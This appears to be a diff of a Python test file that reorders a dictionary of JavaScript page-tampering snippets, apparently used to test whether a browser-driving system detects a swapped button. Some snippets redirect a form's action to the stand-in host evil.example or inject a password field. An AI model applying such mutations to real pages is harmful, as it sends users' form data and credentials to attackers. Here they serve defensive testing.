@@ -274,8 +274,8 @@ async def test_a_list_is_asked_for_once_and_its_options_are_judged(
 
 
 SWAPS = {
-    "name": "b.textContent = 'Forbidden payment'",
     "element": "b.replaceWith(b.cloneNode(true))",
+    "name": "b.textContent = 'Forbidden payment'",
     "form": "b.form.action = 'https://evil.example/'",
     "fields": "b.form.insertAdjacentHTML('afterbegin', '<input type=password>')",
     "kind": "b.setAttribute('role', 'link')",
@@ -283,6 +283,7 @@ SWAPS = {
     "gone": "b.remove()",
     "page": "location.href = '/other'",
 }
+"""The first, of which nothing but the element is another, and the last are in the usual run."""
 
 
 def swapped(chat: Chat, person: Person, script: str, times: int = 1) -> None:
